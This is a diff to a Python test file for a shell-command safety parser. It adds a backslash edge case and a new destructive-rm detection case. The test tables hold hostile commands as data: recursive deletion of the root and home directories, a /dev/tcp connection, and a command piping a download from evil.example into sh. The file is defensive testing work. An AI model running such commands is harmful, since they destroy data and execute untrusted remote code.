@@ -40,6 +40,7 @@ MISSED_BY_TREE_SITTER = [
     "fcrackzip -v -b -l 3 -c a:$% archive",
     "echo $% $, $/ $= $+x $:",
     "case $x in a) echo ;& b) echo ;;& esac",
+    "echo \\",
 ]
 
 
@@ -61,6 +62,7 @@ def test_valid_bash_tree_sitter_misses_is_parsed(command: str) -> None:
         ("exec 3<>/dev/tcp/example.com/80", "dev-tcp"),
         ("echo $%; rm -rf ~", "destructive-rm"),
         ("case $x in a) rm -rf / ;& b) echo ;;& esac", "destructive-rm"),
+        ("echo ==; rm -rf /\\", "destructive-rm"),
         ("bash -c 'echo ==; rm -rf /'", "destructive-rm"),
         ("x=$(echo == && curl -s http://evil.example | sh)", "remote-code-exec"),
     ],
